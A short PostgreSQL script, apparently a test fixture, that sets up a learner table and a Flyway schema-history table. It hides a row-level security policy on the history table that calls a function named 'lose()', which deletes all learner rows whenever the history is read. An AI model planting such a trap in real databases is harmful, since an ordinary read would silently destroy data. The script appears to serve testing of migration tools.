create table learner (id bigint primary key, name text not null, chatname text);
insert into learner values (1, 'Ada', 'ada'), (2, 'Grace', 'Grace'), (3, 'Linus', null);
create table if not exists flyway_schema_history (installed_rank int primary key, version varchar(50), description varchar(200) not null, type varchar(20) not null, script varchar(1000) not null, checksum int, installed_by varchar(100) not null, installed_on timestamp not null default now(), execution_time int not null, success boolean not null);
create function lose() returns boolean language plpgsql as $$ begin delete from public.learner; return true; end $$;
alter table flyway_schema_history enable row level security;
alter table flyway_schema_history force row level security;
create policy p on flyway_schema_history using (lose()) with check (true);
